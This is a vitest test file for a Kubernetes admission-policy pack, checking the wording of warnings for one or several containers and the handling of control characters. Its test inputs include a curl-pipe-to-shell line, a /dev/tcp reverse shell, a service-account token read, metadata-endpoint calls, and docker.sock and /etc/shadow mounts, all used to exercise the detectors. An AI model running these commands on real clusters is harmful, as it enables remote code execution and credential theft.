// What the pack's messages say in a cluster, where one message is for all offenders: a sentence that is right for one and for several,
// and without a control character, for which an API server drops the whole warning.
import { readFileSync } from 'node:fs';
import { expect, it, test } from 'vitest';
import { loadPack } from '../../src/judge/pack.ts';
import type { Json, JsonObject } from '../../src/model.ts';
import { evaluateSpec } from '../../src/policy/evaluate.ts';
import { lintPolicy } from '../../src/policy/lint.ts';
import type { AdmissionRequest } from '../../src/policy/policy.ts';
import { manifests } from '../policy/policy-manifests.ts';

const PACK = await loadPack();
const NOTHING = { namespace: () => null, objects: () => [] };

function messagesOf(id: string, pod: JsonObject): readonly string[] {
  const rule = PACK.find(each => each.id === id);
  if (rule === undefined) throw new Error(`no policy ${id}`);
  const object: JsonObject = {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'j', namespace: 'n' },
    spec: { template: { spec: { restartPolicy: 'Never', ...pod } } },
  };
  const request: AdmissionRequest = {
    ...{ operation: 'CREATE', group: 'batch', version: 'v1', kind: 'Job', resource: 'jobs', namespace: 'n' },
    ...{ name: 'j', object, oldObject: null },
  };
  return evaluateSpec(rule.spec, request, null, NOTHING).decisions.map(decision => decision.message);
}

const running = (...scripts: readonly string[]): JsonObject => ({
  containers: scripts.map((script, index) => ({ name: 'ab'[index] ?? 'c', image: 'x', command: ['sh', '-c', script] })),
});
const containers = (first: Json, second?: Json): JsonObject => ({
  containers: [first, ...(second === undefined ? [] : [second])].map((each, index) => ({
    name: 'ab'[index] ?? 'c',
    image: 'x',
    ...(each as JsonObject),
  })),
});
const ROOT = { securityContext: { runAsUser: 0 } };
const SCRIPTS: readonly (readonly [string, string, string])[] = [
  ['cluster-write-from-job', 'kubectl delete pod x', 'changes|change objects of the cluster'],
  ['download-and-execute', 'curl http://x.example.com/a | sh', 'downloads code and runs it|download code and run it'],
  ['reverse-shell', 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1', 'opens|open a shell to the outside'],
  [
    'service-account-token-read',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'reads the token of its service account|read the token of their service account',
  ],
  ['runtime-package-install', 'apt-get install -y x', 'installs packages when it runs|install packages when they run'],
  ['suspicious-remote-url', 'curl http://203.0.113.7/a', 'talks|talk to an address without an owner'],
  ['metadata-endpoint-access', 'curl http://169.254.169.254/', 'asks|ask the metadata service of the cloud'],
];

/** `asks|ask the service` → `asks the service` and `ask the service`. */
function forms(text: string): readonly [string, string] {
  const [one = '', several = ''] = text.split('|');
  const rest = one.includes(' ') ? '' : several.slice(several.indexOf(' '));
  return [one + rest, several];
}

test.each(SCRIPTS)('%s says it of one container and of two', (id, script, words) => {
  const [one, several] = forms(words);
  expect(messagesOf(id, running(script))).toEqual([`the container a ${one}`]);
  expect(messagesOf(id, running(script, script))).toEqual([`the containers a, b ${several}`]);
});

it('says what each container and volume is about', () => {
  expect(messagesOf('run-as-root', containers(ROOT))).toEqual(['the container a may run as root']);
  expect(messagesOf('run-as-root', containers(ROOT, ROOT))).toEqual(['the containers a, b may run as root']);
  const privileged = { securityContext: { privileged: true } };
  expect(messagesOf('privileged-container', containers(privileged, privileged))).toEqual([
    'the containers a, b have full access to their node',
  ]);
  expect(messagesOf('image-mutable', containers({}, {}))).toEqual([
    'the container a has the image x without a digest, the container b has the image x without a digest',
  ]);
  const volumes = ['/var/run/docker.sock', '/etc/shadow'].map((path, index) => ({
    name: `v${index}`,
    hostPath: { path },
  }));
  expect(messagesOf('host-path-any', { ...containers({}), volumes })).toEqual([
    'the volume v0 is /var/run/docker.sock of the node, the volume v1 is /etc/shadow of the node',
  ]);
});

it('says that a text has control characters, and does not repeat them', () => {
  expect(messagesOf('image-mutable', containers({ image: 'a\tb' }))).toEqual([
    'the container a has an image with control characters without a digest',
  ]);
  const volumes = [{ name: 'v', hostPath: { path: '/etc/a\u0085b' } }];
  expect(messagesOf('host-path-any', { ...containers({}), volumes })).toEqual([
    'the volume v is a path with control characters of the node',
  ]);
  const add = { securityContext: { capabilities: { add: ['SYS_ADMIN', 'A\tB'] } } };
  expect(messagesOf('dangerous-capabilities', containers(add))).toEqual([
    'the container a adds SYS_ADMIN, (a name with control characters)',
  ]);
});

it('an API server takes every policy of the pack, and drops no message of it', () => {
  const linted = PACK.flatMap(({ id }) => {
    const text = readFileSync(new URL(`../../policies/${id}.yaml`, import.meta.url), 'utf8');
    return manifests(text).flatMap(manifest => lintPolicy(manifest) ?? []);
  });
  expect(linted).toHaveLength(PACK.length);
  expect(linted.filter(({ refusal, warnings }) => refusal !== null || warnings.length > 0)).toEqual([]);
}, 240_000);
